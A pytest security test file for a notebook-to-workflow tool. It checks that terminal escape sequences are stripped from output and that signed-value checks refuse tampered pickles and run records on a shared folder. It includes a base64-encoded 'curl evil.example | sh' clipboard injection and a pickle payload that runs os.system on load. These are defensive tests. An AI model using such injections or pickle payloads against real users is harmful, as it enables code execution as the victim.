"""Safe to share: many users in one namespace and on one shared folder (every pod uid 1000).

What nb2flow prints from outside text cannot drive the terminal; nothing a neighbour plants in a shared
folder is loaded or executed as you (see also test_in_pod.py for other users' workflows and schedules,
test_argo_manifest.py and test_replay.py for credentials and the steps' token).
"""

import os

from helpers import nb2flow, only_run_dir
from nbutil import cell, write

OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"


def test_terminal_commands_in_an_error_are_not_printed(tmp_path):
    write(tmp_path / "t.ipynb", cell("x = 1", "step:a"),
          cell(f"raise ValueError({OSC_CLIPBOARD + 'boom ' + OSC_LINK + ' bell' + chr(7)!r})", "step:b"))
    r = nb2flow("run", "t.ipynb", "--no-progress", cwd=tmp_path)
    assert r.returncode == 1
    for out in (r.stderr, nb2flow("status", only_run_dir(tmp_path).name, cwd=tmp_path).stdout):
        assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "ValueError: boom click me bell\\x07" in r.stderr


def test_terminal_commands_in_an_api_servers_message_are_not_printed(tmp_path):
    from kubeserver import FakeKube

    from helpers import run_in_process

    with FakeKube() as kube:
        config = kube.kubeconfig(tmp_path / "kubeconfig")
        kube.fault("GET", r"/workflows/x$", (500, "etcd " + OSC_CLIPBOARD + "down"), times=100)
        (tmp_path / ".config" / "nb2flow").mkdir(parents=True)
        (tmp_path / ".config" / "nb2flow" / "config.yaml").write_text("api_retry_for: 0.5\n")
        r = run_in_process(["logs", "x", "-n", "jhub"], cwd=tmp_path, env={"KUBECONFIG": config, "HOME": str(tmp_path),
                                                                         "KUBERNETES_SERVICE_HOST": None})
    assert r.returncode == 2
    assert "\x1b" not in r.stderr and "etcd down" in r.stderr


# ------------------------------------------------------------------ a neighbour on the team folder

import hashlib
import hmac
import json
import pickle
import shutil
from pathlib import Path

import pytest


class Payload:
    """A pickle that runs a command when it is loaded: what a neighbour plants."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def neighbour_signs(path: Path, key: bytes) -> None:
    """The neighbour runs nb2flow too, and signs what they plant with their own key (the format is public)."""
    mac = hmac.new(key, b"nb2flow-file-v1\0" + path.name.encode() + b"\0" + path.read_bytes(), hashlib.sha256).hexdigest()
    Path(str(path) + ".sig").write_text(mac)


@pytest.fixture
def team(tmp_path):
    """One team folder, two users with their own homes (their own keys); on JupyterHub every pod is uid 1000,
    so the neighbour can write wherever the victim can."""
    folder, victim, neighbour = tmp_path / "team", tmp_path / "home-ren", tmp_path / "home-dana"
    for d in (folder, victim, neighbour):
        d.mkdir()
    write(folder / "nb.ipynb", cell("import os", "setup"), cell("x = [1, 2, 3]", "step:a"),
          cell("if not os.path.exists('fixed'):\n    raise RuntimeError('not yet')\ny = len(x)", "step:b"),
          cell("print('sum', sum(x), y)", "step:c"))
    return folder, {"HOME": str(victim)}, bytes(32) + b"dana"  # any key that is not the victim's


def test_a_planted_value_is_refused_on_resume_and_nothing_planted_runs(team):
    folder, victim, their_key = team
    r = nb2flow("run", "nb.ipynb", "-q", cwd=folder, env=victim)
    assert r.returncode == 1
    run_dir = only_run_dir(folder)
    marker = folder / "pwned"
    planted = run_dir / "values" / "a" / "x.pkl"
    planted.write_bytes(pickle.dumps(Payload(marker)))
    neighbour_signs(planted, their_key)
    (folder / "fixed").touch()
    r = nb2flow("run", "--resume", run_dir.name, "-q", cwd=folder, env=victim)
    assert r.returncode == 1
    assert not marker.exists()
    assert f"{planted}: its signature was not made with your key: someone else wrote or changed it; refusing to load it" in r.stderr
    planted.with_name("x.pkl.sig").unlink()  # no signature at all
    r = nb2flow("run", "--resume", run_dir.name, "-q", cwd=folder, env=victim)
    assert not marker.exists() and f"{planted}: it has no signature beside it: nb2flow did not write it" in r.stderr


def test_reuse_loads_no_planted_value_and_passes_over_a_forged_run(team):
    folder, victim, their_key = team
    (folder / "fixed").touch()
    assert nb2flow("run", "nb.ipynb", "-q", cwd=folder, env=victim).returncode == 0
    genuine = only_run_dir(folder)
    # a forged "newer" run: the neighbour's record (with a later start) and a value that runs a command
    fake = genuine.with_name(genuine.name[:-6] + "zzzzzz")
    shutil.copytree(genuine, fake)
    marker = folder / "pwned"
    forged = json.loads((fake / "run.json").read_text())
    forged["started"] += 100
    (fake / "run.json").write_text(json.dumps(forged))
    neighbour_signs(fake / "run.json", their_key)
    (fake / "values" / "a" / "x.pkl").write_bytes(pickle.dumps(Payload(marker)))
    neighbour_signs(fake / "values" / "a" / "x.pkl", their_key)
    nb = json.loads((folder / "nb.ipynb").read_text())
    nb["cells"][3]["source"] = "print('total', sum(x), y)"  # the victim edits the last step and re-runs
    (folder / "nb.ipynb").write_text(json.dumps(nb))
    r = nb2flow("run", "nb.ipynb", "--reuse", "--no-progress", cwd=folder, env=victim)
    assert r.returncode == 0, r.stderr
    assert f"not reusing {fake.name}: its record is not one nb2flow wrote for you" in r.stderr
    assert f"reusing a (from {genuine.name}), b (from {genuine.name})" in r.stderr and not marker.exists()
    # the genuine run's own value replaced in place: reused, then refused when step c loads it
    planted = genuine / "values" / "a" / "x.pkl"
    planted.write_bytes(pickle.dumps(Payload(marker)))
    neighbour_signs(planted, their_key)
    nb["cells"][3]["source"] = "print('grand total', sum(x), y)"
    (folder / "nb.ipynb").write_text(json.dumps(nb))
    r = nb2flow("run", "nb.ipynb", "--reuse", "-q", cwd=folder, env=victim)
    assert not marker.exists()
    assert r.returncode == 1 and "x.pkl: its signature was not made with your key" in r.stderr


def test_a_planted_run_record_cannot_be_resumed(team):
    folder, victim, their_key = team
    fake = folder / ".nb2flow" / "runs" / "nb-20990101-000000-abcdef"
    fake.mkdir(parents=True)
    record = {"run_id": fake.name, "notebook": str(folder / "theirs.ipynb"), "state": "failed", "steps": {}, "mode": "notebook"}
    (fake / "run.json").write_text(json.dumps(record))
    neighbour_signs(fake / "run.json", their_key)
    r = nb2flow("run", "--resume", fake.name, cwd=folder, env=victim)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr.strip().splitlines()[-1].startswith(f"nb2flow: {fake / 'run.json'}: its signature was not made with your key")


def test_the_run_folders_are_owner_only_whatever_the_umask(team):
    folder, victim, _ = team
    (folder / "fixed").touch()
    import subprocess
    import sys

    r = subprocess.run([sys.executable, "-m", "nb2flow", "run", "nb.ipynb", "-q"], cwd=folder, env={**os.environ, **victim},
                       capture_output=True, text=True, preexec_fn=lambda: os.umask(0))  # everything world-writable by default
    assert r.returncode == 0, r.stderr
    for path in [folder / ".nb2flow", *(folder / ".nb2flow").rglob("*")]:
        if path.is_dir():
            assert path.stat().st_mode & 0o077 == 0, path
        elif path.suffix in (".pkl", ".sig", ".json", ".ipynb", ".py"):
            assert path.stat().st_mode & 0o077 == 0, path
    assert (Path(victim["HOME"]) / ".config" / "nb2flow" / "key").stat().st_mode & 0o777 == 0o600
